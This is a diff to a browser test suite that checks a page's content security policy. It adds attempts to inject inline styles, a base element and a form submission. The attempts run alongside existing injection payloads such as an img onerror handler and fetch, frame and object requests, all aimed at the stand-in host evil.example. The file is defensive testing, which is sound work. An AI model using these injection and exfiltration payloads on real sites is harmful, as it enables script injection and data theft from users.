@@ -9,6 +9,8 @@ test('whoever gets a text into the page cannot make it run, load or send anythin
   const outside: string[] = [];
   await page.context().route(/evil\.example/, (route) => {
     outside.push(route.request().url());
+    // Answered so, a form that is sent leaves the page as it is.
+    if (route.request().isNavigationRequest()) return route.fulfill({ status: 204 });
     return route.fulfill({ body: 'mark("a script of another host")', contentType: 'text/javascript' });
   });
   const attempts = await page.evaluate(tryEverything);
@@ -24,10 +26,14 @@ test('whoever gets a text into the page cannot make it run, load or send anythin
     'an inline handler',
     'a script of another host',
     'code from text',
+    'an inline style',
+    'an inline style of an element',
+    'an address that others are relative to',
     'markup from text',
     'a policy of its own',
   ]);
-  expect(outside.length).toBeGreaterThan(3);
+  expect(outside).toContain('https://evil.example/form?');
+  expect(outside.length).toBeGreaterThan(4);
 });
 
 test('the two policies there are make no scripts', async ({ app: { page } }) => {
@@ -77,7 +83,21 @@ async function tryEverything(): Promise<Attempt[]> {
     'a request to another host': () => fetch('https://evil.example/x'),
     'a frame': () => element('iframe', { src: 'https://evil.example/' }),
     'an object': () => element('object', { data: 'https://evil.example/x.swf' }),
-    'an inline style': () => element('style', {}, 'body { background: url(https://evil.example/x) }'),
+    'an inline style': () => {
+      element('style', {}, 'body { background: url(https://evil.example/x); outline-style: dotted }');
+      if (getComputedStyle(document.body).outlineStyle === 'dotted') marks.add('an inline style');
+    },
+    'an inline style of an element': () => {
+      element('p', { style: 'outline-style: dotted' });
+      if (getComputedStyle(host.lastElementChild ?? host).outlineStyle === 'dotted') {
+        marks.add('an inline style of an element');
+      }
+    },
+    'an address that others are relative to': () => {
+      element('base', { href: 'https://evil.example/' });
+      if (document.baseURI.startsWith('https://evil.example/')) marks.add('an address that others are relative to');
+      host.querySelector('base')?.remove();
+    },
     'markup from text': () => {
       host.innerHTML = '<img src=x onerror="mark(\'markup from text\')">';
     },
@@ -98,6 +118,11 @@ async function tryEverything(): Promise<Attempt[]> {
       // Refused at once, which is as good.
     }
   }
+  // Last, since a page that a form leaves may stop what it had asked for.
+  const form = document.createElement('form');
+  form.action = 'https://evil.example/form';
+  host.append(form);
+  form.submit();
   // What runs at all runs by the end of a request that goes out now.
   await fetch('/none').catch(() => undefined);
   await new Promise((resolve) => setTimeout(resolve, 300));
